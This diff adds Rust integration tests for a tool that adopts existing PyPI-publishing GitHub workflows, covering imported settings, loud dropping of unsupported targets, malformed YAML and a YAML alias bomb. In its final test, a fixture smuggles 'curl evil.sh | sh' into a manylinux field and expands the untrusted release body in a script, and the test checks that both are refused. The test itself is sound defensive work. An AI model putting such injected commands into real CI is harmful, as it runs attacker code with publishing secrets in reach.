@@ -1,0 +1,792 @@
+//! Adopting a repository that already publishes: `pyrel init --yes` keeps
+//! every platform, interpreter family, trigger, environment and secret the
+//! old workflow uses, says what changed, names the old publisher, and the
+//! result is validator-clean.
+//!
+//! Inputs are either generated at test time by the pinned maturin
+//! (`maturin generate-ci github`, ignored tests run by scripts/test.sh) or
+//! hand-written fixtures in `tests/fixtures/workflows/`, one per style real
+//! projects use.
+
+mod common;
+
+use std::collections::BTreeSet;
+use std::process::Command;
+
+use common::{assert_actionlint, assert_zizmor, step, tool, Repo};
+
+/// `[tool.pyrel]` of the repository's pyproject, as TOML.
+fn saved(repo: &Repo, pkg: &str) -> toml_edit::DocumentMut {
+    let path = if pkg == "." {
+        "pyproject.toml".to_string()
+    } else {
+        format!("{pkg}/pyproject.toml")
+    };
+    repo.read(&path).parse().unwrap()
+}
+
+fn list(doc: &toml_edit::DocumentMut, key: &str) -> Vec<String> {
+    doc["tool"]["pyrel"]
+        .get(key)
+        .and_then(|v| v.as_array())
+        .map(|a| a.iter().map(|v| v.as_str().unwrap().to_string()).collect())
+        .unwrap_or_default()
+}
+
+fn text(doc: &toml_edit::DocumentMut, key: &str) -> Option<String> {
+    doc["tool"]["pyrel"]
+        .get(key)
+        .and_then(|v| v.as_str())
+        .map(str::to_string)
+}
+
+fn flag(doc: &toml_edit::DocumentMut, key: &str) -> Option<bool> {
+    doc["tool"]["pyrel"].get(key).and_then(|v| v.as_bool())
+}
+
+fn set(items: &[&str]) -> BTreeSet<String> {
+    items.iter().map(|s| s.to_string()).collect()
+}
+
+/// One hand-written style and exactly what pyrel must import from it.
+struct Style {
+    file: &'static str,
+    fixture: &'static str,
+    platforms: &'static [&'static str],
+    free_threaded: bool,
+    pypy: bool,
+    trigger: &'static str,
+    tag_prefix: &'static str,
+    publish: &'static str,
+    token_secret: Option<&'static str>,
+    environment: &'static str,
+    testpypi_environment: Option<&'static str>,
+    github_release: bool,
+}
+
+const STYLES: &[Style] = &[
+    Style {
+        file: "per-os-include.yml",
+        fixture: "mixed",
+        platforms: &[
+            "linux-x86_64",
+            "linux-aarch64",
+            "linux-ppc64le",
+            "musllinux-x86_64",
+            "musllinux-aarch64",
+            "macos-x86_64",
+            "macos-aarch64",
+            "windows-x64",
+            "windows-x86",
+        ],
+        free_threaded: true,
+        pypy: true,
+        trigger: "release",
+        tag_prefix: "v",
+        publish: "trusted",
+        token_secret: None,
+        environment: "release",
+        testpypi_environment: None,
+        github_release: false,
+    },
+    Style {
+        file: "one-job-per-target.yml",
+        fixture: "abi3",
+        platforms: &[
+            "linux-x86_64",
+            "linux-armv7",
+            "linux-s390x",
+            "musllinux-armv7",
+            "macos-universal2",
+            "windows-aarch64",
+            "windows-x64",
+        ],
+        free_threaded: false,
+        pypy: false,
+        trigger: "tag",
+        tag_prefix: "v",
+        publish: "token",
+        token_secret: Some("MATURIN_PYPI_TOKEN"),
+        environment: "pypi",
+        testpypi_environment: None,
+        github_release: false,
+    },
+    Style {
+        file: "cibuildwheel.yml",
+        fixture: "mixed",
+        platforms: &[
+            "linux-x86_64",
+            "musllinux-x86_64",
+            "linux-aarch64",
+            "musllinux-aarch64",
+            "windows-x64",
+            "windows-x86",
+            "macos-x86_64",
+            "macos-aarch64",
+        ],
+        free_threaded: true,
+        pypy: true,
+        trigger: "release",
+        tag_prefix: "v",
+        publish: "trusted",
+        token_secret: None,
+        environment: "pypi",
+        testpypi_environment: None,
+        github_release: false,
+    },
+    Style {
+        file: "uv.yml",
+        fixture: "hatch",
+        platforms: &[],
+        free_threaded: false,
+        pypy: false,
+        trigger: "tag",
+        tag_prefix: "v",
+        publish: "trusted",
+        token_secret: None,
+        environment: "release",
+        testpypi_environment: Some("test-release"),
+        github_release: false,
+    },
+    Style {
+        file: "twine.yml",
+        fixture: "poetry",
+        platforms: &[],
+        free_threaded: false,
+        pypy: false,
+        trigger: "release",
+        tag_prefix: "v",
+        publish: "token",
+        token_secret: Some("PYPI_UPLOAD_TOKEN"),
+        environment: "production",
+        testpypi_environment: None,
+        github_release: true,
+    },
+    Style {
+        file: "python-v-prefix.yml",
+        fixture: "abi3",
+        platforms: &[
+            "linux-x86_64",
+            "linux-aarch64",
+            "macos-x86_64",
+            "macos-aarch64",
+            "windows-x64",
+            "linux-i686",
+        ],
+        free_threaded: false,
+        pypy: false,
+        trigger: "tag",
+        tag_prefix: "python-v",
+        publish: "token",
+        token_secret: Some("PYTHON_PYPI_TOKEN"),
+        environment: "pypi-python",
+        testpypi_environment: None,
+        github_release: false,
+    },
+    Style {
+        file: "ci-style.yml",
+        fixture: "mixed",
+        platforms: &[
+            "linux-x86_64",
+            "linux-aarch64",
+            "macos-aarch64",
+            "windows-x64",
+        ],
+        free_threaded: true,
+        pypy: false,
+        trigger: "tag",
+        // `tags: ["*"]` has no prefix: pyrel keeps its default and says so.
+        tag_prefix: "v",
+        publish: "token",
+        token_secret: Some("PYPI_TOKEN"),
+        environment: "pypi",
+        testpypi_environment: None,
+        github_release: false,
+    },
+];
+
+fn adopt(style: &Style) -> (Repo, String) {
+    let repo = Repo::fixture(style.fixture);
+    let old = std::fs::read_to_string(
+        common::manifest_dir()
+            .join("tests/fixtures/workflows")
+            .join(style.file),
+    )
+    .unwrap();
+    repo.write(&format!(".github/workflows/{}", style.file), &old);
+    let out = repo.pyrel(&["init", ".", "--yes"]);
+    out.expect(0);
+    (repo, out.stderr())
+}
+
+/// The "Migrating from" section of RELEASING.md.
+fn migrating_section(repo: &Repo) -> String {
+    let docs = repo.read("RELEASING.md");
+    let start = docs
+        .find("## Migrating from")
+        .expect("RELEASING.md has no Migrating from section");
+    let end = docs[start..].find("## One-time setup").unwrap() + start;
+    docs[start..end].to_string()
+}
+
+#[test]
+fn hand_written_styles_are_adopted_exactly() {
+    for style in STYLES {
+        let (repo, report) = adopt(style);
+        let doc = saved(&repo, ".");
+        let label = style.file;
+        assert_eq!(
+            list(&doc, "platforms").into_iter().collect::<BTreeSet<_>>(),
+            set(style.platforms),
+            "{label}: platforms"
+        );
+        // Imported families are saved; a family the old workflow does not
+        // build is never switched on by the import.
+        if style.free_threaded {
+            assert_eq!(flag(&doc, "free-threaded"), Some(true), "{label}");
+        } else {
+            assert_ne!(flag(&doc, "free-threaded"), Some(true), "{label}");
+        }
+        assert_eq!(
+            flag(&doc, "pypy").unwrap_or(false),
+            style.pypy,
+            "{label}: pypy"
+        );
+        assert_eq!(
+            text(&doc, "trigger").as_deref(),
+            Some(style.trigger),
+            "{label}"
+        );
+        assert_eq!(
+            text(&doc, "tag-prefix").as_deref(),
+            Some(style.tag_prefix),
+            "{label}"
+        );
+        assert_eq!(
+            text(&doc, "publish").as_deref(),
+            Some(style.publish),
+            "{label}"
+        );
+        if let Some(secret) = style.token_secret {
+            assert_eq!(
+                text(&doc, "token-secret").as_deref(),
+                Some(secret),
+                "{label}"
+            );
+        }
+        assert_eq!(
+            text(&doc, "environment").as_deref(),
+            Some(style.environment),
+            "{label}"
+        );
+        if let Some(env) = style.testpypi_environment {
+            assert_eq!(
+                text(&doc, "testpypi-environment").as_deref(),
+                Some(env),
+                "{label}"
+            );
+        }
+        assert_eq!(
+            flag(&doc, "github-release"),
+            Some(style.github_release),
+            "{label}"
+        );
+        // The old workflow is named with its publishing job, and the docs say
+        // what to delete.
+        let old = format!(".github/workflows/{}", style.file);
+        assert!(
+            report.contains(&format!("Migration from {old}")),
+            "{report}"
+        );
+        assert!(report.contains("also uploads to PyPI"), "{report}");
+        assert!(!report.contains("DROPPED"), "{label}: {report}");
+        let section = migrating_section(&repo);
+        repo.pyrel(&["generate", "--check"]).expect(0);
+        snapshot!(
+            format!("adopt-{}__report", style.file.trim_end_matches(".yml")),
+            format!("{report}\n--- RELEASING.md\n{section}")
+        );
+    }
+}
+
+/// Nothing is dropped silently: removing an imported platform with a flag
+/// is refused under --yes (exit 1, nothing written) until --allow-drop.
+#[test]
+fn dropping_an_imported_platform_needs_allow_drop() {
+    let style = &STYLES[1];
+    let repo = Repo::fixture(style.fixture);
+    repo.write(
+        ".github/workflows/wheels.yml",
+        &std::fs::read_to_string(
+            common::manifest_dir().join("tests/fixtures/workflows/one-job-per-target.yml"),
+        )
+        .unwrap(),
+    );
+    let before = repo.tree();
+    let out = repo.pyrel(&["init", "--yes", "--platforms", "linux-x86_64,windows-x64"]);
+    out.expect(1);
+    let err = out.stderr();
+    assert!(
+        err.contains("DROPPED  platform linux-s390x (removed with --platforms)"),
+        "{err}"
+    );
+    assert!(err.contains("--allow-drop"), "{err}");
+    assert_eq!(repo.tree(), before, "a refused init wrote something");
+    repo.pyrel(&[
+        "init",
+        "--yes",
+        "--platforms",
+        "linux-x86_64,windows-x64",
+        "--allow-drop",
+    ])
+    .expect(0);
+}
+
+/// An old workflow at pyrel's own path is replaced only with --replace;
+/// --force alone (pyrel's own hand-edited files) does not.
+#[test]
+fn a_publishing_workflow_at_pyrels_path_needs_replace() {
+    let repo = Repo::fixture("abi3");
+    let old = std::fs::read_to_string(
+        common::manifest_dir().join("tests/fixtures/workflows/python-v-prefix.yml"),
+    )
+    .unwrap();
+    repo.write(".github/workflows/release.yml", &old);
+    let before = repo.tree();
+    let out = repo.pyrel(&["init", "--yes"]);
+    out.expect(1);
+    assert!(out.stderr().contains("--replace"), "{}", out.stderr());
+    assert_eq!(repo.tree(), before);
+    repo.pyrel(&["init", "--yes", "--force"]).expect(1);
+    assert_eq!(repo.tree(), before);
+    let out = repo.pyrel(&["init", "--yes", "--replace"]);
+    out.expect(0);
+    let new = repo.read(".github/workflows/release.yml");
+    assert!(new.contains("pyrel-digest"), "{new}");
+    // The imported settings survived the replacement.
+    let doc = saved(&repo, ".");
+    assert_eq!(text(&doc, "tag-prefix").as_deref(), Some("python-v"));
+    // Replaced in place: nothing else publishes, so no migration section.
+    assert!(!repo.read("RELEASING.md").contains("## Migrating from"));
+    repo.pyrel(&["generate", "--check"]).expect(0);
+}
+
+/// Malformed and unusual files never fail init: each is reported with
+/// file:line, and pyrel falls back to its defaults.
+#[test]
+fn malformed_workflows_never_fail_init() {
+    let repo = Repo::fixture("abi3");
+    repo.write(
+        ".github/workflows/broken.yml",
+        "name: broken\non: [push]\njobs:\n  wheels:\n    steps: [\n      - uses: PyO3/maturin-action@v1\n",
+    );
+    let huge: Vec<String> = (0..20).map(|i| format!("t{i}")).collect();
+    let l = huge.join(", ");
+    repo.write(
+        ".github/workflows/huge.yml",
+        &format!(
+            "on: push\njobs:\n  wheels:\n    runs-on: ubuntu-latest\n    strategy:\n      matrix:\n        a: [{l}]\n        b: [{l}]\n        c: [{l}]\n    steps:\n      - uses: PyO3/maturin-action@v1\n        with:\n          target: ${{{{ matrix.a }}}}\n"
+        ),
+    );
+    repo.write(
+        ".github/workflows/dynamic.yaml",
+        "on:\n  release:\n    types: [published]\nx: &targets [x86_64, aarch64]\njobs:\n  wheels:\n    runs-on: ${{ fromJSON(inputs.runners)[0] }}\n    strategy:\n      matrix:\n        target: *targets\n    steps:\n      - uses: PyO3/maturin-action@v1\n        with:\n          target: ${{ matrix.target }}\n          args: --release ${{ inputs.extra }}\n",
+    );
+    repo.write(".github/workflows/not-a-workflow.yml", "- just\n- a list\n");
+    // An alias bomb (10^12 nodes when expanded) is refused by the parser.
+    let mut bomb = vec!["a0: &a0 [x, x, x, x, x, x, x, x, x, x]".to_string()];
+    for i in 1..12 {
+        bomb.push(format!(
+            "a{i}: &a{i} [{}]",
+            vec![format!("*a{}", i - 1); 10].join(", ")
+        ));
+    }
+    bomb.push(
+        "jobs: {j: {runs-on: ubuntu-latest, strategy: {matrix: {t: *a11}}, steps: [{uses: PyO3/maturin-action@v1}]}}"
+            .into(),
+    );
+    repo.write(".github/workflows/bomb.yml", &bomb.join("\n"));
+    let out = repo.pyrel(&["init", "--yes"]);
+    out.expect(0);
+    let err = out.stderr();
+    for expected in [
+        ".github/workflows/broken.yml:",
+        "not valid YAML",
+        ".github/workflows/bomb.yml:1: not valid YAML (repetition limit exceeded)",
+        ".github/workflows/huge.yml:3: job `wheels`: matrix has more than",
+        ".github/workflows/dynamic.yaml:6: job `wheels`: runs-on ${{ fromJSON(inputs.runners)[0] }} cannot be resolved",
+    ] {
+        assert!(err.contains(expected), "missing {expected:?} in:\n{err}");
+    }
+    // Nothing importable: pyrel's defaults.
+    let doc = saved(&repo, ".");
+    assert_eq!(list(&doc, "platforms").len(), 7);
+    repo.pyrel(&["inspect"]).expect(0);
+    repo.pyrel(&["generate", "--check"]).expect(0);
+}
+
+// ---- generated by the pinned maturin at test time ----
+
+/// What a `maturin generate-ci github` workflow builds, read from its own
+/// layout (job per OS, `matrix.platform` entries with a `target`), with a
+/// table independent of pyrel's reader.
+fn maturin_sets(yaml: &str) -> (BTreeSet<String>, BTreeSet<&'static str>) {
+    let doc: serde_yaml::Value = serde_yaml::from_str(yaml).unwrap();
+    let mut platforms = BTreeSet::new();
+    for (job, def) in doc["jobs"].as_mapping().unwrap() {
+        let job = job.as_str().unwrap();
+        let Some(rows) = def["strategy"]["matrix"]["platform"].as_sequence() else {
+            continue;
+        };
+        for row in rows {
+            let target = row["target"].as_str().unwrap();
+            let name = match (job, target) {
+                ("linux" | "musllinux", "x86") => format!("{job}-i686"),
+                ("linux" | "musllinux", t) => format!("{job}-{t}"),
+                ("windows" | "macos", t) => format!("{job}-{t}"),
+                ("emscripten", _) => "emscripten".into(),
+                ("android", t) => format!("android-{}", t.split('-').next().unwrap()),
+                (j, t) => panic!("unexpected maturin job {j} target {t}"),
+            };
+            platforms.insert(name);
+        }
+    }
+    let mut interpreters = BTreeSet::from(["cpython"]);
+    if yaml.contains("-i python3.14t") {
+        interpreters.insert("free-threaded");
+    }
+    (platforms, interpreters)
+}
+
+struct Generated {
+    label: &'static str,
+    fixture: &'static str,
+    args: &'static [&'static str],
+    count: usize,
+}
+
+const GENERATED: &[Generated] = &[
+    Generated {
+        label: "default",
+        fixture: "abi3",
+        args: &[],
+        count: 15,
+    },
+    Generated {
+        label: "all",
+        fixture: "abi3",
+        args: &["--platform", "all"],
+        count: 18,
+    },
+    Generated {
+        label: "linux-windows",
+        fixture: "abi3",
+        args: &["--platform", "linux", "windows"],
+        count: 9,
+    },
+    Generated {
+        label: "manifest-path",
+        fixture: "bindings-python",
+        args: &["-m", "bindings/python/Cargo.toml"],
+        count: 15,
+    },
+    Generated {
+        label: "bin",
+        fixture: "bin",
+        args: &[],
+        count: 15,
+    },
+];
+
+fn maturin_generate(repo: &Repo, g: &Generated) -> String {
+    let out = repo.path().join(".github/workflows/CI.yml");
+    std::fs::create_dir_all(out.parent().unwrap()).unwrap();
+    step(
+        g.label,
+        "maturin generate-ci github",
+        Command::new(tool("maturin"))
+            .args(["generate-ci", "github", "-o"])
+            .arg(&out)
+            .args(g.args)
+            .current_dir(repo.path())
+            .env("CARGO_TARGET_DIR", common::shared_target_dir()),
+    );
+    std::fs::read_to_string(out).unwrap()
+}
+
+#[test]
+#[ignore = "needs maturin, actionlint, zizmor: run scripts/test.sh"]
+fn maturin_generate_ci_workflows_are_adopted_whole() {
+    for g in GENERATED {
+        let repo = Repo::fixture(g.fixture);
+        let yaml = maturin_generate(&repo, g);
+        let (platforms, interpreters) = maturin_sets(&yaml);
+        assert_eq!(platforms.len(), g.count, "{}: maturin's own set", g.label);
+
+        let out = repo.pyrel(&["init", "--yes"]);
+        out.expect(0);
+        let report = out.stderr();
+        let doc = saved(&repo, ".");
+        let adopted: BTreeSet<String> = list(&doc, "platforms").into_iter().collect();
+        assert_eq!(adopted, platforms, "{}: platforms", g.label);
+
+        // Interpreter families: pyrel's inspect sees maturin's, and the
+        // config builds them.
+        let json: serde_json::Value =
+            serde_json::from_str(&repo.pyrel(&["inspect", "--json"]).expect(0).stdout()).unwrap();
+        let seen: BTreeSet<&str> = json["existing_workflows"][0]["builds"][0]["interpreters"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|v| v.as_str().unwrap())
+            .collect();
+        assert_eq!(seen, interpreters, "{}: interpreters", g.label);
+        if interpreters.contains("free-threaded") {
+            assert_eq!(flag(&doc, "free-threaded"), Some(true), "{}", g.label);
+            let wf = repo.read(".github/workflows/release.yml");
+            assert!(
+                wf.contains("-i python3.14t"),
+                "{}: no free-threaded build",
+                g.label
+            );
+        }
+        assert!(!report.contains("DROPPED"), "{}: {report}", g.label);
+        assert!(
+            report.contains(".github/workflows/CI.yml:") && report.contains("job `release`"),
+            "{}: old publisher not named: {report}",
+            g.label
+        );
+        let docs = repo.read("RELEASING.md");
+        assert!(
+            docs.contains("## Migrating from `.github/workflows/CI.yml`"),
+            "{}",
+            g.label
+        );
+        if g.label == "all" {
+            let wf = repo.read(".github/workflows/release.yml");
+            assert!(wf.contains("wasm32-unknown-emscripten"));
+            assert!(wf.contains("aarch64-linux-android"));
+        }
+        repo.pyrel(&["generate", "--check"]).expect(0);
+        let file = repo.path().join(".github/workflows/release.yml");
+        assert_actionlint(&file);
+        assert_zizmor(&file, text(&doc, "publish").as_deref() == Some("token"));
+    }
+}
+
+#[test]
+#[ignore = "needs actionlint, zizmor: run scripts/test.sh"]
+fn adopted_hand_written_workflows_pass_the_validators() {
+    for style in STYLES {
+        let (repo, _) = adopt(style);
+        let file = repo.path().join(".github/workflows/release.yml");
+        assert_actionlint(&file);
+        assert_zizmor(&file, style.publish == "token");
+    }
+}
+
+/// Two packages in one repository (a pure-Python root package and a Rust
+/// extension in `rust/`), built by one hand-written workflow: each package
+/// imports its own build, matched by `working-directory`.
+#[test]
+fn two_packages_import_their_own_builds() {
+    let repo = Repo::fixture("seed-flakestorm");
+    repo.write(
+        ".github/workflows/publish.yml",
+        r#"name: publish
+on:
+  push:
+    tags: ["v*"]
+jobs:
+  python:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v4
+      - run: python -m pip install build && python -m build
+  rust-wheels:
+    runs-on: ${{ matrix.os }}
+    strategy:
+      matrix:
+        os: [ubuntu-latest, macos-14, windows-latest]
+    defaults:
+      run:
+        working-directory: rust
+    steps:
+      - uses: actions/checkout@v4
+      - uses: PyO3/maturin-action@v1
+        with:
+          working-directory: rust
+          args: --release --out dist --find-interpreter
+  publish:
+    needs: [python, rust-wheels]
+    runs-on: ubuntu-latest
+    environment: pypi
+    steps:
+      - uses: pypa/gh-action-pypi-publish@release/v1
+        with:
+          password: ${{ secrets.PYPI_TOKEN }}
+"#,
+    );
+    repo.pyrel(&["init", "rust", "--yes"]).expect(0);
+    let rust = saved(&repo, "rust");
+    assert_eq!(
+        list(&rust, "platforms"),
+        ["linux-x86_64", "macos-aarch64", "windows-x64"]
+    );
+    assert_eq!(text(&rust, "token-secret").as_deref(), Some("PYPI_TOKEN"));
+    repo.pyrel(&["init", ".", "--yes"]).expect(0);
+    let root = saved(&repo, ".");
+    assert!(
+        list(&root, "platforms").is_empty(),
+        "a pure-Python package has no platform list"
+    );
+    assert_eq!(text(&root, "trigger").as_deref(), Some("tag"));
+    assert_eq!(text(&root, "environment").as_deref(), Some("pypi"));
+}
+
+/// What pyrel cannot build is never dropped quietly: a loongarch64 target
+/// and GraalPy are reported as DROPPED with the reason, and `--yes` exits 1
+/// until `--allow-drop`.
+#[test]
+fn what_pyrel_cannot_build_is_dropped_loudly() {
+    let repo = Repo::fixture("mixed");
+    repo.write(
+        ".github/workflows/release.yaml",
+        r#"on:
+  release:
+    types: [published]
+jobs:
+  linux:
+    runs-on: ubuntu-latest
+    strategy:
+      matrix:
+        target: [x86_64, loongarch64-unknown-linux-gnu]
+    steps:
+      - uses: PyO3/maturin-action@v1
+        with:
+          target: ${{ matrix.target }}
+          args: --release --out dist -i 3.12 graalpy3.11
+"#,
+    );
+    let before = repo.tree();
+    let out = repo.pyrel(&["init", "--yes"]);
+    out.expect(1);
+    let err = out.stderr();
+    assert!(
+        err.contains("DROPPED  platform linux-loongarch64 (pyrel cannot build it)"),
+        "{err}"
+    );
+    assert!(
+        err.contains("DROPPED  interpreters GraalPy (pyrel cannot build it)"),
+        "{err}"
+    );
+    assert_eq!(repo.tree(), before);
+    repo.pyrel(&["init", "--yes", "--allow-drop"]).expect(0);
+    assert_eq!(list(&saved(&repo, "."), "platforms"), ["linux-x86_64"]);
+}
+
+/// The interactive `init` in a pseudo-terminal: the imported answers are
+/// preselected, so pressing Enter everywhere keeps what the old workflow
+/// does, and the report is shown before anything is written.
+#[test]
+fn interactive_init_preselects_imported_answers() {
+    use rexpect::session::spawn_command;
+
+    let repo = Repo::fixture("abi3");
+    repo.write(
+        ".github/workflows/wheels.yml",
+        &std::fs::read_to_string(
+            common::manifest_dir().join("tests/fixtures/workflows/one-job-per-target.yml"),
+        )
+        .unwrap(),
+    );
+    let mut cmd = Command::new(env!("CARGO_BIN_EXE_pyrel"));
+    cmd.arg("init")
+        .current_dir(repo.path())
+        .env("TERM", "xterm");
+    let mut p = spawn_command(cmd, Some(20_000)).expect("spawn pyrel in a pty");
+    p.exp_string("workflow").unwrap();
+    p.exp_string(".github/workflows/wheels.yml").unwrap();
+    for prompt in [
+        "Platforms to build wheels for",
+        "Publish when",
+        "Release tag prefix",
+        "Authenticate to PyPI with",
+        "holding the PyPI token",
+        "publishes to TestPyPI",
+        "holding the TestPyPI token",
+        "Smoke-test command",
+        "Attach the built distributions",
+        "Where to write the release workflow",
+        "Where to write the maintainer docs",
+    ] {
+        p.exp_string(prompt)
+            .unwrap_or_else(|e| panic!("waiting for {prompt:?}: {e}"));
+        std::thread::sleep(std::time::Duration::from_millis(150));
+        p.send("\r").unwrap();
+        p.flush().unwrap();
+    }
+    p.exp_string("Migration from .github/workflows/wheels.yml")
+        .unwrap();
+    p.exp_string("Write these files?").unwrap();
+    std::thread::sleep(std::time::Duration::from_millis(150));
+    p.send("\r").unwrap();
+    p.flush().unwrap();
+    p.exp_eof().unwrap();
+
+    let doc = saved(&repo, ".");
+    assert_eq!(
+        list(&doc, "platforms").into_iter().collect::<BTreeSet<_>>(),
+        set(STYLES[1].platforms)
+    );
+    assert_eq!(text(&doc, "trigger").as_deref(), Some("tag"));
+    assert_eq!(
+        text(&doc, "token-secret").as_deref(),
+        Some("MATURIN_PYPI_TOKEN")
+    );
+}
+
+/// Values read from an old workflow are as hostile as any other input:
+/// the ones pyrel could not write safely are not imported (a note says
+/// so), never rendered, and init still succeeds with the defaults.
+#[test]
+fn hostile_imported_values_are_not_imported() {
+    let repo = Repo::fixture("abi3");
+    repo.write(
+        ".github/workflows/wheels.yml",
+        r#"on:
+  release:
+    types: [published]
+jobs:
+  linux:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: PyO3/maturin-action@v1
+        with:
+          target: x86_64
+          manylinux: "2_28; curl evil.sh | sh"
+          args: --release --out dist
+          before-script-linux: echo ${{ github.event.release.body }}
+  publish:
+    runs-on: ubuntu-latest
+    environment: "pypi prod"
+    steps:
+      - uses: pypa/gh-action-pypi-publish@release/v1
+"#,
+    );
+    let out = repo.pyrel(&["init", "--yes"]);
+    out.expect(0);
+    let err = out.stderr();
+    for note in [
+        "note     manylinux not imported",
+        "note     before-script-linux not imported",
+        "note     environment not imported",
+    ] {
+        assert!(err.contains(note), "missing {note:?}:\n{err}");
+    }
+    let wf = repo.read(".github/workflows/release.yml");
+    assert!(!wf.contains("evil.sh") && !wf.contains("release.body") && !wf.contains("pypi prod"));
+    let doc = saved(&repo, ".");
+    assert_eq!(text(&doc, "environment").as_deref(), Some("pypi"));
+    assert_eq!(list(&doc, "platforms"), ["linux-x86_64"]);
+}
